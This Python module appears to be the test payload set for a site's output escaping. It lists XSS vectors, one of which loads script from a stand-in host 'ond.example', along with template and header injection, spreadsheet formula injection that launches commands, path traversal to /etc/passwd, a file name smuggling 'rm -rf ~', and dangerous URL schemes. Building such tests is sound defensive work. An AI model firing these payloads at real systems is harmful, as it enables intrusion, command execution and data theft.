"""The payloads. Each runs `smitta()` if anything lets it, makes a tag, or is a formula.

Goes out: TEXTS, for fields that hold text; ADDRESSES, for fields that hold an address; and
`marked`, a payload with a sign at its end that tells which payload stands in which field.
"""

import re
import unicodedata

TEXTS = (
    # Tags, whole and half, in the writings that filters forget.
    "<script>smitta()</script>",
    "<ScRiPt>smitta()</sCrIpT>",
    "<script src=//ond.example/x.js></script>",
    "<img src=x onerror=smitta()>",
    "<img src=x onerror=smitta() ",
    "<svg/onload=smitta()>",
    "<svg><animate onbegin=smitta() attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.smitta()</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=smitta()>",
    "<details open ontoggle=smitta()>",
    "<base href=//ond.example/><link rel=stylesheet href=x.css>",
    "<meta http-equiv=refresh content=0;url=//ond.example/>",
    "<form action=//ond.example/><button autofocus onfocus=smitta()>",
    # Out of an attribute.
    '"><svg onload=smitta()>',
    "'><img src=x onerror=smitta()>",
    '" onfocus=smitta() autofocus tabindex=1 x="',
    "' onfocus=smitta() autofocus tabindex=1 x='",
    "` onfocus=smitta() autofocus x=`",
    "x onfocus=smitta() autofocus",
    # Out of the element or the script that holds the text.
    "</script><script>smitta()</script>",
    "</title><script>smitta()</script>",
    "</textarea><script>smitta()</script>",
    "</template><img src=x onerror=smitta()>",
    "</option></select><img src=x onerror=smitta()>",
    "</style><script>smitta()</script>",
    "</noscript><img src=x onerror=smitta()>",
    "<!--",
    "--><script>smitta()</script>",
    "<!--><script>smitta()</script>",
    "]]><script>smitta()</script>",
    # Out of a text in a script, or of JSON in a page.
    "';smitta();//",
    '";smitta();//',
    "\\';smitta();//",
    "${smitta()}",
    "\u2028smitta()//\u2029",
    '","__proto__":{"x":1},"y":"',
    # Template languages, formats, Markdown.
    "{{7*7}}",
    "{{ smitta() }}",
    "{% include '/etc/passwd' %}",
    "{# x #}",
    "%(x)s %s %d",
    "{0.__class__} {namn}",
    "[klicka](javascript:smitta())",
    "![x](x\" onerror=\"smitta())",
    "<javascript:smitta()>",
    # Addresses, and entities that become something.
    "javascript:smitta()",
    "JaVaScRiPt:smitta()",
    "java\tscript:smitta()",
    "data:text/html,<script>parent.smitta()</script>",
    "vbscript:smitta()",
    "&lt;img src=x onerror=smitta()&gt;",
    "&#106;avascript:smitta()",
    # What does not show, or turns the text.
    "\u202egnp.exe\u202c",
    "a\u0000<b\u0000>",
    "\ufeff\u200b<\u200bscript>",
    "\ufffe\uffff\u0008",
    # Into the head of a mail, out of a line.
    "x\r\nBcc: ond@ond.example\r\n\r\nHej",
    "x%0d%0aBcc:%20ond@ond.example",
    "x&bcc=ond@ond.example?bcc=ond@ond.example&body=Hej",
    # Formulas.
    '=HYPERLINK("https://ond.example";"Klicka")',
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0\u200b=1+1",
    "\uff1d1+1",
    'x,=1+1;=1+1\t=1+1\n=1+1',
    'x,"=1+1";"=1+1"',
    # File names.
    "../../../etc/passwd",
    "..\\..\\x.html",
    "con.yaml; rm -rf ~",
)  # fmt: skip

# For fields that are addresses: these must never become a link, whatever reads them.
ADDRESSES = (
    "javascript:smitta()",
    "JAVASCRIPT:smitta()",
    " javascript:smitta()",
    "\u0001javascript:smitta()",
    "java\tscript:smitta()",
    "java\nscript:smitta()",
    "javascript&colon;smitta()",
    "javascript://provinsats.se/%0asmitta()",
    "data:text/html,<script>smitta()</script>",
    "data:image/svg+xml,<svg onload=smitta()>",
    "vbscript:smitta()",
    "blob:https://ond.example/x",
    "file:///etc/passwd",
    "view-source:https://ond.example",
    "intent://ond.example#Intent;end",
    "https://[",
    "http://ond.example",
    "//ond.example",
    "https:\\\\ond.example",
    "https://provinsats.se@ond.example/",
    'https://provinsats.se/" onclick="smitta()',
    "https://provinsats.se/'onclick='smitta()",
    "https://provinsats.se/><script>smitta()</script>",
    "https://provinsats.se/\r\nX: y",
)

MARK = re.compile(r"m(\d\d)f(\d\d\d)z")
# HTML has no NUL: browsers drop or mark it. What reads a file may take a mark of byte order away,
# and a title that script sets loses what steps back.
INVISIBLE = dict.fromkeys(map(ord, "\u0000\u0008\ufffd\ufeff"))


def marked(payload: int, field: int) -> str:
    """Return a payload with its sign."""
    return f"{TEXTS[payload]} m{payload:02}f{field:03}z"


def seen(text: str) -> str:
    """Return a text as two outputs of it can be compared: no NUL, no case, blanks as one."""
    return " ".join(unicodedata.normalize("NFC", text).translate(INVISIBLE).casefold().split())
